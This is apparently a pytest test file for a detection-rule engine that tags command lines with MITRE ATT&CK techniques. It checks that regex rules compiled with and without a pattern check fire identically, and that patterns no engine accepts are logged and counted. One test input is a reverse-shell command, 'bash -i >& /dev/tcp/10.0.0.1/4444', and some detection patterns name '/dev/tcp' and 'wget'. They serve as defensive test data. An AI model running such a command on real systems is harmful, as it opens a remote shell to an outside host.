"""Rules compiled without the pattern check (`compile_rule(..., check_patterns=False)`, how a
worker compiles the master's rule messages) match exactly as checked ones. A pattern with a
backtracking construct is still checked and takes the rule tree's bounded path; one the
cheap scan clears goes to the filters, which classify it when they compile (RE2, else the
bounded engine); a pattern no engine accepts only makes its leaf never match."""

from __future__ import annotations

import logging
from typing import Any

import pytest

from ttp_core.engine.compiler import CompiledRule, CompileError, LinearLeaf, compile_rule
from ttp_core.engine.fields import MAX_MATCH_TEXT
from ttp_core.engine.index import SHARD_PATTERNS, RuleIndex, unusable_patterns
from ttp_core.engine.patterns import BACKTRACK_MAX_INPUT
from ttp_core.rules.model import Rule


def rule(rule_id: str, match: dict[str, Any]) -> Rule:
    return Rule.model_validate(
        {
            "rule_id": rule_id,
            "rule_version": 1,
            "name": rule_id.lower(),
            "applies_to": ["command"],
            "match": match,
            "emits": [{"tactic": "TA0002", "technique_id": "T1059", "confidence": 0.9}],
        }
    )


MATCHES: list[dict[str, Any]] = [
    {"field": "cmd", "pattern": "foo(?=bar)"},
    {"field": "cmd", "pattern": "(\\w)\\1x", "ignore_case": True},
    {"all": [{"field": "cmd", "contains": "x"}, {"field": "cmd", "pattern": "(ab)\\1"}]},
    {"any": [{"field": "cmd", "pattern": "(?<=x)x+$"}, {"field": "cmd", "equals": "zz"}]},
    {"not": {"field": "cmd", "pattern": "foo(?!bar)"}},
    {"field": "cmd", "pattern": "(?=a)(a+)+$"},
    {"field": "cmd", "pattern": "dev/tcp"},
    {"field": "cmd", "pattern": "^x+$"},
    {"field": "cmd", "pattern": "(?i)ÉCOLE"},
    {"field": "cmd", "pattern": "foo\\b", "ignore_case": True},
    # RE2 refuses the repeat count, the scan sees no backtracking construct: the filter's
    # bounded fallback runs it.
    {"any": [{"field": "cmd", "pattern": "(?:ab){1001}"}, {"field": "cmd", "contains": "qq"}]},
]

CAP = BACKTRACK_MAX_INPUT
TEXTS: list[Any] = [
    "xx foobar",
    "xx foobaz",
    "AAX",
    "ABX",
    "x abab",
    "x ab",
    "zz",
    "une école",
    "bash -i >& /dev/tcp/10.0.0.1/4444",
    "x" * (CAP + 10),
    "x" * (CAP + 10) + "y",
    "x" * (CAP - 3) + "foobar",
    "x" * (CAP - 3) + "foobaz",
    "y" * 2000 + " abab foobar AAX",  # a set's length: matched by the RE2 sets
    "a" * 30_000 + "!",
    "x" * (MAX_MATCH_TEXT - 3) + "FOO bar",
    "ab" * 1001,
    "ab" * 1000,
    ["y", "xx foobar"],
    12345,
]


def rules(check: bool, filler: int) -> list[CompiledRule]:
    built = [
        compile_rule(rule(f"R{n:03d}", match), check_patterns=check)
        for n, match in enumerate(MATCHES)
    ]
    # Linear rules around them: shards that mix refused and accepted patterns.
    built += [
        compile_rule(
            rule(f"F{n:04d}", {"field": "cmd", "pattern": f"w{n}o+r?d"}), check_patterns=check
        )
        for n in range(filler)
    ]
    return built


def fired(index: RuleIndex, payload: Any) -> list[str]:
    tags = index.evaluate({"source_kind": "command", "source_id": "e", "payload": payload})
    return [tag.rule_id for tag in tags]


@pytest.mark.parametrize("filler", [0, 3 * SHARD_PATTERNS])
def test_unchecked_rules_fire_exactly_as_checked_ones(filler: int) -> None:
    checked = RuleIndex.build(rules(True, filler))
    unchecked = RuleIndex.build(rules(False, filler))
    for text in TEXTS:
        for payload in ({"cmd": text}, {"cmd": [text, "w7ooord"]}):
            assert fired(unchecked, payload) == fired(checked, payload), text


def test_unchecked_rules_fire_alike_with_filters_compiled_first() -> None:
    checked = RuleIndex.build(rules(True, SHARD_PATTERNS))
    unchecked = RuleIndex.build(rules(False, SHARD_PATTERNS))
    assert unchecked.compile_filters()
    for text in TEXTS:
        assert fired(unchecked, {"cmd": text}) == fired(checked, {"cmd": text}), text


@pytest.mark.parametrize(
    "pattern", ["foo(?=bar)", "(?<!x)y", "(\\w)\\1", "a++b", "(?>ab)c", "x\\Z", "\\bA\\K"]
)
def test_an_unchecked_backtracking_pattern_is_checked_and_flagged(pattern: str) -> None:
    # As on the master: it is searched only for rules its other leaves leave in play, not
    # on every text of its field beside the filter.
    compiled = compile_rule(rule("R1", {"field": "cmd", "pattern": pattern}), check_patterns=False)
    assert compiled.bounded_patterns == ((("match", "pattern"), pattern),)
    (leaf,) = compiled.programs["command"].leaves
    assert not isinstance(leaf, LinearLeaf)


@pytest.mark.parametrize("pattern", ["dev/tcp", "(?i:w)get\\s+", "(?P<n>a)+\\d{2}", "\\d+\\.x"])
def test_an_unchecked_linear_pattern_is_a_filter_leaf_without_a_check(pattern: str) -> None:
    compiled = compile_rule(rule("R1", {"field": "cmd", "pattern": pattern}), check_patterns=False)
    assert compiled.bounded_patterns == ()
    (leaf,) = compiled.programs["command"].leaves
    assert isinstance(leaf, LinearLeaf) and leaf.regex == pattern


@pytest.mark.parametrize("pattern", ["(", "a{2,1}", "[z-a]", "x**", "(?<=a+", "x{2}++"])
def test_a_pattern_no_engine_accepts_never_matches_and_is_logged(
    pattern: str, caplog: pytest.LogCaptureFixture
) -> None:
    bad = rule(
        "R0", {"any": [{"field": "cmd", "pattern": pattern}, {"field": "cmd", "contains": "ok"}]}
    )
    with pytest.raises(CompileError):
        compile_rule(bad)  # the master's check refuses it
    index = RuleIndex.build([compile_rule(bad, check_patterns=False), *rules(False, 64)])
    without = RuleIndex.build(rules(True, 64))
    before = unusable_patterns()
    with caplog.at_level(logging.ERROR, logger="ttp_core.engine.index"):
        for text in ("(", "a", "xx foobar", "ok", "y" * 2000 + " ok", "x" * (CAP + 10)):
            tags = fired(index, {"cmd": text})
            assert ("R0" in tags) == ("ok" in text)
            assert [t for t in tags if t != "R0"] == fired(without, {"cmd": text})
    assert unusable_patterns() == before + 1
    assert any("accepted by no engine" in r.getMessage() for r in caplog.records)


def test_the_worker_exports_the_unusable_pattern_count() -> None:
    from prometheus_client import REGISTRY

    from ttp_worker import metrics

    bad = rule("R0", {"field": "cmd", "pattern": "(unbalanced"})
    index = RuleIndex.build([compile_rule(bad, check_patterns=False)])
    before = unusable_patterns()
    assert fired(index, {"cmd": "(unbalanced"}) == []  # the filter compiles: one unusable
    assert metrics.UNUSABLE_PATTERNS is not None
    assert REGISTRY.get_sample_value("ttp_worker_unusable_patterns") == before + 1
